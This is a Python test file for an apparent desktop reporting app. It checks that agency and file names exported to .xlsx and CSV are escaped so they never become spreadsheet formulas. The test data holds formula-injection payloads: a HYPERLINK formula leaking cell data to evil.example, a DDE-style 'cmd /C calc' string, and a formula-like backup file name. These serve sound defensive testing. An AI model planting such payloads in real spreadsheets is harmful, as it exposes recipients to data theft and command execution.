"""Text written to .xlsx or CSV is never a formula (finding 9).

An agency named `=HYPERLINK(...)` became a live formula in the period report sent to partners. Every
spreadsheet writer passes its text through `domain/spreadsheet_cells` (a leading `'` for text starting
with = + - @ tab or CR); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from onestop_desktop.domain.documents import Production
from onestop_desktop.domain.periods import parse_period
from onestop_desktop.domain.reporting import ActivityReport, PublishedTable
from onestop_desktop.domain.spreadsheet_cells import FORMULA_TRIGGERS, csv_text
from onestop_desktop.export.report_xlsx import activity_report_xlsx
from onestop_desktop.services.session import Session
from onestop_desktop.storage import repos

ATTACKS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"상세 보기")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
)


def _cells(path: Path) -> list[openpyxl.cell.cell.Cell]:
    workbook = openpyxl.load_workbook(path)
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def test_an_agency_named_like_a_formula_stays_text_in_the_period_report(admin_session: Session, tmp_path: Path) -> None:
    session = admin_session
    session.demo.seed(60, 1)
    with session.store.write(session.actor) as tx:
        agencies = repos.agencies.list_agencies(tx.conn)
        renamed = {}
        for index, agency in enumerate(agencies):
            name = ATTACKS[index % len(ATTACKS)] + f" {index}"
            tx.update("agencies", agency.id, {"name": name})
            renamed[agency.id] = name
    year = date.today().year
    document = session.reports.render(parse_period(f"{year - 1}-01-01..{year}-12-31"), "xlsx", "실적 보고")
    target = tmp_path / "report.xlsx"
    session.reports.save(document, target)
    cells = _cells(target)
    assert all(cell.data_type != "f" for cell in cells)
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    shown = {name for name in renamed.values() if "'" + name in texts}
    assert shown, "no agency of the seed appears in the report: the attack was not reproduced"
    assert not any(name in texts for name in renamed.values())  # only ever with the leading quote
    assert any(isinstance(cell.value, int) and cell.data_type == "n" for cell in cells)  # counts stay numbers


def test_a_file_name_like_a_formula_stays_text_in_the_audit_export(admin_session: Session, tmp_path: Path) -> None:
    session = admin_session
    name = '=HYPERLINK("evil.example","열기").bak'
    session.backups.create(tmp_path / name)
    target = tmp_path / "audit.csv"
    session.audit.save_csv(date(2000, 1, 1), target)
    rows = list(csv.reader(io.StringIO(target.read_text("utf-8-sig"), newline="")))
    fields = [field for row in rows for field in row]
    assert any(field.startswith("'" + name) for field in fields)  # the backup's audit entry, made harmless
    for row in rows[1:]:
        assert row[0].isdigit()  # the sequence number is still a number
        assert not any(field.startswith(FORMULA_TRIGGERS) for field in row[1:]), row


def _report(label: str, header: str, text_value: str, count: int, average: float) -> ActivityReport:
    table = PublishedTable(
        "t", "표 — 시험", header, ("건수", "비율", "메모"),
        ((label, (count, average, text_value)), ("합계", (count, average, "<5"))),
    )  # fmt: skip
    production = Production(label, datetime(2026, 7, 1, 9, 0), text_value)
    return ActivityReport(label, parse_period("2026"), 5, (table,), production, (text_value,))


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    label=st.text(max_size=40),
    header=st.text(max_size=20),
    text_value=st.text(max_size=40),
    count=st.integers(min_value=-(10**9), max_value=10**9),
    average=st.floats(min_value=-1e9, max_value=1e9, allow_nan=False),
)
def test_any_text_is_never_a_formula_and_numbers_stay_numbers(
    tmp_path: Path, label: str, header: str, text_value: str, count: int, average: float
) -> None:
    target = tmp_path / "property.xlsx"
    target.write_bytes(activity_report_xlsx(_report(label, header, text_value, count, average)))
    cells = _cells(target)
    assert all(cell.data_type != "f" for cell in cells)
    for cell in cells:
        if isinstance(cell.value, str):
            assert not cell.value.startswith(("=", "+", "-", "@")), cell.value
    values = [c.value for c in cells]
    sheet = openpyxl.load_workbook(target).worksheets[1]
    numbers = sheet.cell(row=4, column=2), sheet.cell(row=4, column=3)
    assert [c.data_type for c in numbers] == ["n", "n"]
    assert numbers[0].value == count and abs(float(numbers[1].value) - average) <= 1e-9 * max(1.0, abs(average))
    cleaned = ILLEGAL_CHARACTERS_RE.sub("", label)
    if cleaned.startswith(FORMULA_TRIGGERS):
        read_back = cleaned.replace("\r\n", "\n").replace("\r", "\n")  # XML parsers normalise line ends
        assert "'" + read_back in values

    text = csv_text([[label, count, average, text_value], [header]])
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0][0] in (label, "'" + label) and rows[0][3] in (text_value, "'" + text_value)
    assert int(rows[0][1]) == count and float(rows[0][2]) == average
    for field in (rows[0][0], rows[0][3], rows[1][0] if rows[1] else ""):
        assert not field.startswith(FORMULA_TRIGGERS), field
